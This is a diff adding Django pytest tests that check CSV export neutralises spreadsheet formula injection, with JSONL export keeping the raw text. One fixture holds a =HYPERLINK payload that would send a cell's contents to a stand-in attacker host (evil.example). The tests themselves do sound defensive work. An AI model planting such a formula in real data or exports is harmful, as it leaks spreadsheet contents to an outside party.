@@ -2,10 +2,13 @@
 message, and nothing stored; good input next to it still goes in."""
 
 import base64
+import csv
+import io
 import json
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
+from django.core.management import call_command
 
 from provenance.models import Article, Claim
 from tests.test_ingest_command import run_ingest
@@ -153,3 +156,28 @@ def test_a_web_upload_with_a_lone_surrogate_says_why(client, users, project):
     page = response.content.decode()
     assert "Upload refused" in page and "batch.jsonl line 1" in page
     assert not Article.objects.exists()
+
+
+# --- CSV export and spreadsheet formulas -------------------------------------------------
+
+
+def test_csv_export_neutralises_formulas_and_json_keeps_the_text(ingest):
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1, "Details") the ministry said.'
+    ingest(f"{formula}\n", title="+SUM(1,2)", publisher="@Reuters")
+    out = io.StringIO()
+    call_command("export", "--status", "all", "--format", "csv", stdout=out)
+    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert rows[0]["text"] == "'" + formula
+    assert rows[0]["article_title"] == "'+SUM(1,2)"
+    out = io.StringIO()
+    call_command("export", "--status", "all", "--format", "jsonl", stdout=out)
+    assert json.loads(out.getvalue().splitlines()[0])["text"] == formula
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_formula_start_is_neutralised(start):
+    from annotations.formats.csv_format import spreadsheet_safe
+
+    assert spreadsheet_safe(f"{start}1+1") == f"'{start}1+1"
+    assert spreadsheet_safe("40,000 villagers") == "40,000 villagers"
+    assert spreadsheet_safe(-3) == -3  # numbers are numbers, not text
